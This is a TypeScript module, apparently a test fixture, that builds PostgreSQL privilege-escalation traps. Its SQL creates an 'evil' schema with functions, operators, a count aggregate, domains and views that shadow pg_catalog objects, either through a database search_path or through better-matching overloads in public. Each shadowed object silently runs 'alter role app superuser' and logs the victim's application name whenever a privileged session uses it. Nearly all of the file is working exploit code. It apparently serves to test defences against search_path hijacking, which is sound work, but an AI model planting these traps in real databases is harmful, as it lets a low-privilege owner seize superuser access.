/**
 * What an owner of a database can put in front of PostgreSQL's own functions, operators, types and views, so that
 * sessions of other roles run it. Each of them makes the owner a superuser if the session that runs it may do so, and keeps the
 * name of the application.
 */
const EVIL = `
create schema evil;
create table evil.victim (application pg_catalog.text);
create function evil.steal() returns boolean language plpgsql set search_path = pg_catalog as $$
begin
  execute 'alter role app superuser';
  insert into evil.victim values (current_setting('application_name'));
  return true;
exception when others then return true;
end $$;
`

/** Functions of the same name and arguments as PostgreSQL's, which do as those do, and steal. */
const SAME_FUNCTIONS = `
do $do$
declare original record;
begin
  for original in
    select p.proname, pg_get_function_identity_arguments(p.oid) as arguments, pg_get_function_result(p.oid) as result,
           (select coalesce(string_agg('$' || n, ', '), '') from generate_series(1, p.pronargs) n) as given
      from pg_proc p
     where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset and p.provariadic = 0
       and p.proname in ('current_setting', 'pg_backend_pid', 'now', 'version', 'current_database', 'clock_timestamp',
         'pg_postmaster_start_time', 'pg_has_role', 'has_function_privilege', 'has_parameter_privilege', 'starts_with',
         'pg_reload_conf', 'pg_sleep', 'pg_is_in_recovery', 'strpos', 'row_to_json', 'pg_advisory_xact_lock')
  loop
    execute format('create function evil.%I(%s) returns %s language plpgsql as $f$ begin perform evil.steal(); %s pg_catalog.%I(%s); end $f$',
      original.proname, original.arguments, original.result,
      case original.result when 'void' then 'perform' else 'return' end, original.proname, original.given);
  end loop;
end $do$;
create function evil.step(counted bigint) returns bigint language plpgsql as $$ begin perform evil.steal(); return counted + 1; end $$;
create aggregate evil.count(*) (sfunc = evil.step, stype = bigint, initcond = '0');
`

/** The same for operators. */
const SAME_OPERATORS = `
do $do$
declare original record;
begin
  for original in
    select o.oprname, o.oprleft::regtype as l, o.oprright::regtype as r, o.oprresult::regtype as result, o.oid
      from pg_operator o
     where o.oprname in ('=', '<>', '<', '>', '+', '-', '*', '||', '~~', '~') and o.oprkind = 'b'
       and o.oprleft in ('text'::regtype, 'name'::regtype, 'oid'::regtype, 'int4'::regtype, 'int8'::regtype, 'float8'::regtype, 'timestamptz'::regtype)
       and o.oprright = o.oprleft
  loop
    execute format('create function evil.o%s(%s, %s) returns %s language plpgsql as $f$ begin perform evil.steal(); return $1 operator(pg_catalog.%s) $2; end $f$',
      original.oid, original.l, original.r, original.result, original.oprname);
    execute format('create operator evil.%s (leftarg = %s, rightarg = %s, function = evil.o%s)',
      original.oprname, original.l, original.r, original.oid);
  end loop;
end $do$;
`

const SAME_TYPES_AND_VIEWS = `
create domain evil.text as pg_catalog.text check (evil.steal());
create domain evil.float8 as pg_catalog.float8 check (evil.steal());
create view evil.pg_roles as select * from pg_catalog.pg_roles where evil.steal();
create view evil.pg_settings as select * from pg_catalog.pg_settings where evil.steal();
create view evil.pg_stat_activity as select * from pg_catalog.pg_stat_activity where evil.steal();
`

/** Functions and operators that fit the arguments of PostgreSQL's better than its own, found on the default path. */
const OVERLOADS = `
create function public.pg_has_role(name, text, text) returns boolean language plpgsql as $$ begin return evil.steal(); end $$;
create function public.concat_int(text, integer) returns text language plpgsql as $$ begin perform evil.steal(); return $1; end $$;
create operator public.|| (leftarg = text, rightarg = integer, function = public.concat_int);
create function public.same(name, text) returns boolean language plpgsql as $$ begin return evil.steal(); end $$;
create operator public.= (leftarg = name, rightarg = text, function = public.same);
create function public.current_setting(varchar) returns text language plpgsql as $$ begin perform evil.steal(); return '1'; end $$;
`

export type Attack = 'a search_path of the database' | 'overloads in public'

/** Lays the trap as the owner of the database, the plain role `app`. */
export function trapFor(attack: Attack): readonly string[] {
  return attack === 'overloads in public'
    ? ['grant create on schema public to app', `set role app; ${EVIL}${OVERLOADS}`]
    : [
        `set role app; ${EVIL}${SAME_FUNCTIONS}${SAME_OPERATORS}${SAME_TYPES_AND_VIEWS}`,
        'alter database app set search_path = evil, pg_catalog',
      ]
}
